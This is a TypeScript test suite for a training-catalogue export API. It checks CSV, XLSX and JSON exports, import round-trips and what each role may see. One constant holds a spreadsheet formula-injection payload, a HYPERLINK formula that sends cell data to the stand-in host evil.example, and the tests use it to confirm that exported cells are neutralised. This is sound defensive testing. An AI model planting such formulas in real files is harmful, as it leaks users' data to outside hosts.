import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { activities, iterations } from '../../db/schema';
import { drivers } from '../../test/databases';
import { anonymous, type Caller, createWorld, signIn, type World } from '../../test/world';
import { createActivity, publishedActivity } from './menu.test-support';
import { postImport, XLSX } from './menu-io.test-support';

const TRAP = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

describe.each(drivers)('menu export on %s', (driver) => {
  let world: World;
  let staff: Caller;
  let liaison: Caller;

  const download = (caller: Caller, path: string) =>
    world.app.inject({ url: `/api/v1/menu/${path}`, headers: caller.headers });

  beforeAll(async () => {
    world = await createWorld(driver);
    staff = await signIn(world.app, world.users.staff_officer);
    liaison = await signIn(world.app, world.users.partner_liaison);
    await publishedActivity(world, staff, { code: 'NSO.E-1', title: { en: TRAP, fr: '+33 dangereux' } });
    await publishedActivity(world, staff, {
      code: 'NSO.E-2',
      fee: { amount: '1250.50', currency: 'EUR' },
      languages: ['en', 'fr'],
      areaIds: [world.areas.get('CYBER'), world.areas.get('CT')],
      eligibility: { kind: 'frameworks', frameworkIds: [world.frameworks.get('PAG')], partnerIds: [] },
      iterations: [
        {
          startsOn: '2026-04-06',
          endsOn: '2026-04-10',
          city: 'Tallinn',
          countryCode: 'EE',
          seats: 5,
          partnerSeatLimit: 2,
        },
        { startsOn: null, endsOn: null, online: true, seats: 50 },
      ],
    });
    // Named partners: Georgia only, so not Japan's liaison's to see.
    await publishedActivity(world, staff, {
      code: 'NSO.E-3',
      eligibility: { kind: 'partners', frameworkIds: [], partnerIds: [world.partners.georgia] },
    });
    await publishedActivity(world, staff, {
      code: 'NSO.E-4',
      releasability: 'releasable',
      releasableTo: [world.partners.japan, world.partners.mongolia],
      iterations: [],
    });
    await createActivity(world, staff, { code: 'NSO.E-DRAFT' });
  });
  afterAll(() => world?.close());

  it('exports CSV in the caller’s language, neutralising cells a spreadsheet would run', async () => {
    const response = await download(staff, 'export.csv?year=2026');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="menu-2026.csv"');
    const records = parse(response.body, { bom: true, columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.code)).toEqual([
      'NSO.E-1',
      'NSO.E-2',
      'NSO.E-2',
      'NSO.E-3',
      'NSO.E-4',
      'NSO.E-DRAFT',
    ]);
    const trap = records[0]!;
    expect(trap.title_en).toBe(`'${TRAP}`);
    expect(trap.title_fr).toBe("'+33 dangereux");
    expect(records[1]).toMatchObject({
      fee: '1250.50',
      currency: 'EUR',
      areas: 'CT;CYBER',
      languages: 'en;fr',
    });
    expect(records[1]).toMatchObject({
      eligibility: 'frameworks',
      eligible_frameworks: 'PAG',
      self_paced: 'no',
      partner_seat_limit: '2',
    });
    expect(records[2]).toMatchObject({
      self_paced: 'yes',
      online: 'yes',
      start: '',
      seats: '50',
      partner_seat_limit: '',
    });
    expect(records[3]).toMatchObject({ eligible_partners: 'GE' });
    expect(records[4]).toMatchObject({ releasable_to: expect.stringMatching(/^(JP;MN|MN;JP)$/), start: '' });
    const french = await download(staff, 'export.csv?year=2026&lang=fr');
    expect(french.body.split('\r\n')[0]).toContain('titre_en,titre_fr');
    expect(french.body.split('\r\n')[0]).toContain(',places,places_par_partenaire,');
    expect(french.body).toContain(',oui,');
  });

  it('exports XLSX where every cell is a value, never a formula', async () => {
    const response = await download(staff, 'export.xlsx?year=2026');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(XLSX);
    expect(response.headers['content-disposition']).toBe('attachment; filename="menu-2026.xlsx"');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0]!;
    let formulas = 0;
    const texts: string[] = [];
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    );
    expect(formulas).toBe(0);
    expect(texts).toContain(TRAP);
    const header = sheet.getRow(1).values as string[];
    const start = sheet.getRow(3).getCell(header.indexOf('start'));
    expect(start.value).toEqual(new Date('2026-04-06T00:00:00Z'));
  });

  it('exports JSON rows with the same columns', async () => {
    const response = await download(staff, 'export.json?year=2026&area=CT');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toBe('attachment; filename="menu-2026.json"');
    const body = response.json();
    expect(body.columns).toContain('eligible_frameworks');
    expect(body.items).toHaveLength(2);
    expect(body.items[0]).toMatchObject({
      code: 'NSO.E-2',
      year: 2026,
      areas: ['CT', 'CYBER'],
      seats: 5,
      partner_seat_limit: 2,
    });
    expect(body.items[1]).toMatchObject({ seats: 50, partner_seat_limit: null });
  });

  it.each(['csv', 'xlsx', 'json'] as const)(
    'imports its own %s export back: only the codes clash',
    async (format) => {
      const exported = await download(staff, `export.${format}?year=2026`);
      const type = { csv: 'text/csv', xlsx: XLSX, json: 'application/json' }[format];
      const response = await postImport(world, staff, exported.rawPayload, { type });
      expect(response.statusCode, response.body).toBe(200);
      const report = response.json();
      expect(report).toMatchObject({ rows: 6, activities: 5, iterations: 5 });
      expect(report.errors.map((e: { code: string }) => e.code)).toEqual(Array(5).fill('import.code_taken'));
    },
  );

  it.each(['csv', 'xlsx', 'json'] as const)(
    'carries the per-partner seat limit out and back in through %s',
    async (format) => {
      // The liaison's export: NSO.E-2 alone, without the drafts the earlier formats imported.
      const exported = await download(liaison, `export.${format}?year=2026&area=CT`);
      const code = `NSO.E-2${format.toUpperCase()}`;
      let body: Buffer = exported.rawPayload;
      if (format === 'xlsx') {
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load(body as unknown as ExcelJS.Buffer);
        workbook.worksheets[0]!.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.value === 'NSO.E-2') cell.value = code;
          }),
        );
        body = Buffer.from(await workbook.xlsx.writeBuffer());
      } else {
        body = Buffer.from(exported.body.replaceAll('NSO.E-2', code));
      }
      const type = { csv: 'text/csv', xlsx: XLSX, json: 'application/json' }[format];
      const response = await postImport(world, staff, body, { type, dryRun: false });
      expect(response.statusCode, response.body).toBe(201);
      const rows = await world.database.db
        .select({ seats: iterations.seats, limit: iterations.partnerSeatLimit })
        .from(iterations)
        .innerJoin(activities, eq(activities.id, iterations.activityId))
        .where(eq(activities.code, code));
      expect(rows.sort((a, b) => a.seats - b.seats)).toEqual([
        { seats: 5, limit: 2 },
        { seats: 50, limit: null },
      ]);
    },
  );

  it('gives a partner liaison only what it may see, without the partners an activity names', async () => {
    const response = await download(liaison, 'export.csv?year=2026');
    expect(response.statusCode).toBe(200);
    const records = parse(response.body, { bom: true, columns: true }) as Record<string, string>[];
    // E-2 is for the PAG framework Japan belongs to; E-3 for Georgia only; the draft is the staff's.
    expect([...new Set(records.map((r) => r.code))]).toEqual(['NSO.E-1', 'NSO.E-2', 'NSO.E-4']);
    expect(records.every((r) => r.eligible_partners === '' && r.releasable_to === '')).toBe(true);
    // The public sees public published activities, whoever may apply to them.
    const open = await download(anonymous, 'export.json?year=2026');
    expect(open.statusCode).toBe(200);
    const codes = new Set(open.json().items.map((r: { code: string }) => r.code));
    expect([...codes]).toEqual(['NSO.E-1', 'NSO.E-2', 'NSO.E-3']);
  });
});
